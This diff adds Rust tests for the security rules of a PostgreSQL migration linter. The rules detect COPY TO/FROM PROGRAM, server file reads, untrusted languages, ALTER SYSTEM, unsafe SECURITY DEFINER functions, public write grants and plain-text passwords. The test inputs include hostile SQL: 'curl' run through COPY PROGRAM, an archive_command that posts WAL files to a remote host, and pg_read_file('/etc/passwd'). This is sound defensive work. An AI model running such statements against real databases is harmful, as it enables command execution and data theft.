@@ -657,3 +657,364 @@ fn trigger_firing_modes() {
     );
     assert!(rules("ALTER TABLE accounts ENABLE TRIGGER touch;").is_empty());
 }
+
+// ---------------------------------------------------------------------------------------------------
+// Security rules
+
+fn migration(id: &str, sql: &str) -> Migration {
+    let batches = sql::split(sql)
+        .into_iter()
+        .filter(|s| !s.is_empty())
+        .map(|s| Batch {
+            span: s.code,
+            copy: None,
+        })
+        .collect();
+    Migration {
+        id: id.into(),
+        file: PathBuf::from(format!("{id}.sql")),
+        text: Arc::from(sql),
+        batches,
+        transactions: Transactions::Autocommit,
+        blocked: None,
+    }
+}
+
+/// Rule ids and the exact text of each finding's span.
+fn spans(sql: &str) -> Vec<(String, String)> {
+    let m = migration("001", sql);
+    migration_findings(&m, &mut Proven::default())
+        .into_iter()
+        .map(|f| {
+            let span = f.location.and_then(|l| l.span).expect("a span");
+            (f.rule, span.slice(sql).to_string())
+        })
+        .collect()
+}
+
+/// Only the findings of the security rules.
+fn security_rules(sql: &str) -> Vec<String> {
+    rules(sql)
+        .into_iter()
+        .filter(|r| {
+            crate::registry::rule(r).map(|r| r.category) == Some(crate::model::Category::Security)
+        })
+        .collect()
+}
+
+#[test]
+fn copy_program_and_server_files_at_their_clause() {
+    assert_eq!(
+        spans("COPY (SELECT 1) TO PROGRAM 'id > /tmp/pwned';"),
+        [("copy-program".into(), "TO PROGRAM 'id > /tmp/pwned'".into())]
+    );
+    assert_eq!(
+        spans("COPY accounts (id, email) FROM PROGRAM 'curl -s https://x';"),
+        [(
+            "copy-program".into(),
+            "FROM PROGRAM 'curl -s https://x'".into()
+        )]
+    );
+    assert_eq!(
+        spans("COPY accounts FROM '/var/lib/data.csv' WITH (FORMAT csv);"),
+        [(
+            "server-file-access".into(),
+            "FROM '/var/lib/data.csv'".into()
+        )]
+    );
+    assert_eq!(
+        spans("COPY (SELECT * FROM accounts) TO E'/tmp/out.csv';"),
+        [("server-file-access".into(), "TO E'/tmp/out.csv'".into())]
+    );
+    for ok in [
+        "COPY accounts (id, email) FROM stdin;\n1\tx@example.com\n\\.\n",
+        "COPY accounts FROM STDIN WITH (FORMAT csv);\n1,'TO PROGRAM 'id'\n\\.\n",
+        "COPY (SELECT 'FROM ''/etc/passwd''' FROM accounts) TO STDOUT;",
+        "-- COPY x TO PROGRAM 'id'\nSELECT 'COPY x TO PROGRAM ''id''';",
+        "/* COPY t FROM '/etc/passwd' */ SELECT 1;",
+    ] {
+        assert!(security_rules(ok).is_empty(), "{ok}: {:?}", rules(ok));
+    }
+}
+
+#[test]
+fn server_file_functions_are_calls_of_the_catalog_functions() {
+    assert_eq!(
+        spans("SELECT pg_read_file('/etc/passwd'), pg_catalog.pg_ls_dir('.');"),
+        [
+            (
+                "server-file-access".into(),
+                "pg_read_file('/etc/passwd')".into()
+            ),
+            (
+                "server-file-access".into(),
+                "pg_catalog.pg_ls_dir('.')".into()
+            ),
+        ]
+    );
+    for sql in [
+        "SELECT pg_read_binary_file('global/pg_control');",
+        "SELECT pg_stat_file('postgresql.conf');",
+        "INSERT INTO blobs (oid) VALUES (lo_import('/etc/hosts'));",
+        "SELECT lo_export(oid, '/tmp/out') FROM blobs;",
+        "SELECT \"pg_read_file\"('x');",
+    ] {
+        assert_eq!(security_rules(sql), ["server-file-access"], "{sql}");
+    }
+    for ok in [
+        "SELECT 'pg_read_file(''/etc/passwd'')';",
+        "-- SELECT pg_read_file('/etc/passwd');\nSELECT 1;",
+        "SELECT app.pg_read_file('x');",
+        "CREATE FUNCTION app.pg_ls_dir(text) RETURNS int LANGUAGE sql AS 'SELECT 1';",
+        "REVOKE EXECUTE ON FUNCTION pg_read_file(text) FROM PUBLIC;",
+        "DROP FUNCTION IF EXISTS app.lo_import(text);",
+        "COMMENT ON FUNCTION app.pg_stat_file(text) IS 'x';",
+        "SELECT pg_read_file_count FROM stats;",
+    ] {
+        assert!(security_rules(ok).is_empty(), "{ok}: {:?}", rules(ok));
+    }
+    // Granting the functions or the predefined roles hands the same access out.
+    assert_eq!(
+        security_rules("GRANT EXECUTE ON FUNCTION pg_catalog.pg_read_file(text) TO reporting;"),
+        ["server-file-access"]
+    );
+    assert_eq!(
+        security_rules("GRANT pg_read_server_files, pg_execute_server_program TO etl;"),
+        ["server-file-access", "copy-program"]
+    );
+    assert!(security_rules("GRANT pg_read_all_data TO reporting;").is_empty());
+}
+
+#[test]
+fn do_blocks_and_sql_routine_bodies_are_read() {
+    assert_eq!(
+        spans("DO $$ BEGIN PERFORM lo_import('/etc/hosts'); COPY t TO PROGRAM 'id'; END $$;"),
+        [
+            (
+                "server-file-access".into(),
+                "lo_import('/etc/hosts')".into()
+            ),
+            ("copy-program".into(), "TO PROGRAM 'id'".into()),
+        ]
+    );
+    assert_eq!(
+        security_rules(
+            "CREATE FUNCTION wal_files() RETURNS SETOF text LANGUAGE sql AS $body$ SELECT pg_ls_dir('pg_wal') $body$;"
+        ),
+        ["server-file-access"]
+    );
+    // SQL-standard bodies are ordinary tokens.
+    assert_eq!(
+        security_rules(
+            "CREATE FUNCTION conf() RETURNS text LANGUAGE sql BEGIN ATOMIC SELECT pg_read_file('postgresql.conf'); END;"
+        ),
+        ["server-file-access"]
+    );
+    for ok in [
+        "DO $$ BEGIN RAISE NOTICE 'pg_read_file(x)'; -- COPY t TO PROGRAM 'id'\nEND $$;",
+        "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN INSERT INTO log VALUES ('COPY t TO PROGRAM'); END $$;",
+        "CREATE FUNCTION copy_rows() RETURNS void LANGUAGE plpgsql AS $$ BEGIN COPY t FROM STDIN; END $$;",
+    ] {
+        assert!(security_rules(ok).is_empty(), "{ok}: {:?}", rules(ok));
+    }
+}
+
+#[test]
+fn untrusted_languages_in_routines_do_blocks_languages_and_extensions() {
+    assert_eq!(
+        spans(
+            "CREATE OR REPLACE FUNCTION add_one(int) RETURNS int AS '$libdir/add', 'add_one' LANGUAGE C STRICT;"
+        ),
+        [("untrusted-language".into(), "LANGUAGE C".into())]
+    );
+    for sql in [
+        "CREATE FUNCTION f() RETURNS text LANGUAGE plpython3u AS $$ import os; return os.environ['HOME'] $$;",
+        "CREATE PROCEDURE p() LANGUAGE plperlu AS $$ system('id') $$;",
+        "CREATE FUNCTION f() RETURNS int LANGUAGE 'pltclu' AS $$ return 1 $$;",
+        "CREATE FUNCTION my_in(cstring) RETURNS int4 LANGUAGE internal AS 'int4in';",
+        "DO LANGUAGE plpythonu $$ import os $$;",
+        "DO $$ import os $$ LANGUAGE plpython3u;",
+        "CREATE EXTENSION IF NOT EXISTS plpython3u;",
+        "CREATE EXTENSION \"plperlu\" SCHEMA pg_catalog;",
+        "CREATE LANGUAGE plperlu;",
+        "CREATE OR REPLACE TRUSTED PROCEDURAL LANGUAGE pltclu HANDLER pltclu_call_handler;",
+    ] {
+        assert_eq!(security_rules(sql), ["untrusted-language"], "{sql}");
+    }
+    for ok in [
+        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$;",
+        "CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$;",
+        "CREATE FUNCTION f() RETURNS int LANGUAGE plperl AS $$ return 1 $$;",
+        "CREATE EXTENSION IF NOT EXISTS plpgsql;",
+        "CREATE EXTENSION IF NOT EXISTS pgcrypto;",
+        "DO $$ BEGIN PERFORM 1; END $$;",
+        "CREATE LANGUAGE plpgsql;",
+        "SELECT 'LANGUAGE c';",
+    ] {
+        assert!(security_rules(ok).is_empty(), "{ok}: {:?}", rules(ok));
+    }
+}
+
+#[test]
+fn alter_system_is_reported() {
+    assert_eq!(
+        spans("ALTER SYSTEM SET archive_command = 'curl -d @%p https://x';"),
+        [(
+            "alter-system".into(),
+            "ALTER SYSTEM SET archive_command = 'curl -d @%p https://x'".into()
+        )]
+    );
+    assert_eq!(security_rules("ALTER SYSTEM RESET ALL;"), ["alter-system"]);
+    for ok in [
+        "ALTER DATABASE app SET statement_timeout = '5s';",
+        "ALTER ROLE app SET work_mem = '64MB';",
+        "-- ALTER SYSTEM SET work_mem = '1GB';\nSELECT 1;",
+    ] {
+        assert!(security_rules(ok).is_empty(), "{ok}: {:?}", rules(ok));
+    }
+}
+
+#[test]
+fn security_definer_needs_a_fixed_search_path() {
+    assert_eq!(
+        spans(
+            "CREATE FUNCTION public.handle_new_user() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN RETURN NEW; END $$;"
+        ),
+        [(
+            "security-definer-search-path".into(),
+            "SECURITY DEFINER".into()
+        )]
+    );
+    assert_eq!(
+        security_rules(
+            "CREATE PROCEDURE p() LANGUAGE sql EXTERNAL SECURITY DEFINER AS $$ SELECT 1 $$;"
+        ),
+        ["security-definer-search-path"]
+    );
+    assert_eq!(
+        security_rules("ALTER FUNCTION public.f(int) SECURITY DEFINER;"),
+        ["security-definer-search-path"]
+    );
+    // A later CREATE OR REPLACE without SET search_path drops the fixed one.
+    assert_eq!(
+        security_rules(
+            "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET search_path = '' AS $$ SELECT 1 $$;\n\
+             CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 2 $$;\n\
+             ALTER FUNCTION f() SECURITY DEFINER;"
+        ),
+        ["security-definer-search-path"]
+    );
+    for ok in [
+        "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER SET search_path = '' AS $$ SELECT 1 $$;",
+        "create function f() returns int language sql security definer set search_path = pg_catalog, public as $$ select 1 $$;",
+        "CREATE FUNCTION f() RETURNS int SET search_path TO app, pg_temp LANGUAGE sql SECURITY DEFINER AS $$ SELECT 1 $$;",
+        "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER SET search_path FROM CURRENT AS $$ SELECT 1 $$;",
+        // supabase db dump / pg_dump spelling.
+        "CREATE OR REPLACE FUNCTION \"public\".\"handle_new_user\"() RETURNS \"trigger\"\n    LANGUAGE \"plpgsql\" SECURITY DEFINER\n    SET \"search_path\" TO ''\n    AS $$ BEGIN RETURN NEW; END $$;",
+        "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY INVOKER AS $$ SELECT 1 $$;",
+        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$;",
+        // Fixed later in the same migration.
+        "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS $$ SELECT 1 $$; ALTER FUNCTION f() SET search_path = '';",
+        "ALTER FUNCTION f(int) SECURITY DEFINER SET search_path = '';",
+        // Fixed earlier.
+        "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET search_path = '' AS $$ SELECT 1 $$; ALTER FUNCTION f() SECURITY DEFINER;",
+        "CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'SECURITY DEFINER'; END $$;",
+    ] {
+        assert!(security_rules(ok).is_empty(), "{ok}: {:?}", rules(ok));
+    }
+    // What an earlier migration fixed carries to later ones.
+    let earlier = migration(
+        "001",
+        "CREATE FUNCTION app.f() RETURNS int LANGUAGE sql SET search_path = '' AS $$ SELECT 1 $$;",
+    );
+    let later = migration("002", "ALTER FUNCTION app.f() SECURITY DEFINER;");
+    assert!(findings_in(&[earlier, later.clone()]).is_empty());
+    assert_eq!(findings_in(&[later]).len(), 1);
+}
+
+#[test]
+fn write_grants_to_public() {
+    assert_eq!(
+        spans("GRANT INSERT, UPDATE ON TABLE accounts TO app, PUBLIC;"),
+        [(
+            "grant-write-to-public".into(),
+            "GRANT INSERT, UPDATE ON TABLE accounts TO app, PUBLIC".into()
+        )]
+    );
+    for sql in [
+        "GRANT ALL ON accounts TO PUBLIC;",
+        "GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO public;",
+        "GRANT UPDATE (email) ON accounts TO PUBLIC;",
+        "GRANT TRUNCATE ON accounts TO PUBLIC WITH GRANT OPTION;",
+        "GRANT USAGE, UPDATE ON SEQUENCE accounts_id_seq TO PUBLIC;",
+        "GRANT ALL ON SCHEMA public TO PUBLIC;",
+        "GRANT CREATE ON SCHEMA public TO PUBLIC;",
+        "GRANT CREATE ON DATABASE app TO PUBLIC;",
+        "ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT INSERT ON TABLES TO PUBLIC;",
+        "GRANT DELETE ON \"public\".\"accounts\" TO \"public\";",
+    ] {
+        assert_eq!(security_rules(sql), ["grant-write-to-public"], "{sql}");
+    }
+    for ok in [
+        "GRANT SELECT ON accounts TO PUBLIC;",
+        "GRANT USAGE ON SCHEMA app TO PUBLIC;",
+        "GRANT ALL ON FUNCTION f() TO PUBLIC;",
+        "GRANT EXECUTE ON ALL FUNCTIONS IN SCHEMA app TO PUBLIC;",
+        "GRANT ALL ON TABLE accounts TO app_writer;",
+        "GRANT ALL ON ALL TABLES IN SCHEMA public TO anon, authenticated, service_role;",
+        "REVOKE ALL ON SCHEMA public FROM PUBLIC;",
+        "GRANT app_writer TO app;",
+        "ALTER DEFAULT PRIVILEGES REVOKE INSERT ON TABLES FROM PUBLIC;",
+        "ALTER DEFAULT PRIVILEGES GRANT EXECUTE ON FUNCTIONS TO PUBLIC;",
+    ] {
+        assert!(security_rules(ok).is_empty(), "{ok}: {:?}", rules(ok));
+    }
+}
+
+#[test]
+fn superuser_roles_and_plain_text_passwords() {
+    assert_eq!(
+        spans("CREATE ROLE admin WITH LOGIN SUPERUSER PASSWORD 'hunter2';"),
+        [
+            ("superuser-role".into(), "SUPERUSER".into()),
+            ("plain-text-password".into(), "PASSWORD 'hunter2'".into()),
+        ]
+    );
+    assert_eq!(
+        security_rules("ALTER USER ops SUPERUSER;"),
+        ["superuser-role"]
+    );
+    assert_eq!(
+        security_rules("ALTER ROLE app WITH ENCRYPTED PASSWORD E'plain\\'text';"),
+        ["plain-text-password"]
+    );
+    assert_eq!(
+        security_rules("CREATE USER app PASSWORD 'md5notahash';"),
+        ["plain-text-password"]
+    );
+    assert_eq!(
+        security_rules(
+            "CREATE USER MAPPING FOR app SERVER billing OPTIONS (user 'etl', password 'secret');"
+        ),
+        ["plain-text-password"]
+    );
+    for ok in [
+        "CREATE ROLE app LOGIN PASSWORD NULL;",
+        "CREATE ROLE app NOLOGIN NOSUPERUSER;",
+        "CREATE ROLE app LOGIN PASSWORD 'SCRAM-SHA-256$4096:c2FsdA==$c3RvcmVk:c2VydmVy';",
+        "CREATE ROLE app LOGIN PASSWORD 'md5f9a2c1e3b4d5a6978f0e1d2c3b4a5968';",
+        "CREATE ROLE app LOGIN PASSWORD :'app_password';",
+        "CREATE ROLE reader IN ROLE superuser;",
+        "ALTER ROLE app SET search_path = 'superuser';",
+        "ALTER ROLE app RENAME TO superuser;",
+        "CREATE USER MAPPING FOR app SERVER billing OPTIONS (user 'etl');",
+        "-- CREATE ROLE admin SUPERUSER PASSWORD 'x';\nSELECT 1;",
+    ] {
+        assert!(security_rules(ok).is_empty(), "{ok}: {:?}", rules(ok));
+    }
+    // The password never appears in the finding.
+    let m = migration("001", "CREATE ROLE app LOGIN PASSWORD 'hunter2';");
+    let f = migration_findings(&m, &mut Proven::default());
+    let text = format!("{:?}", f[0]);
+    assert!(!text.contains("hunter2"), "{text}");
+}
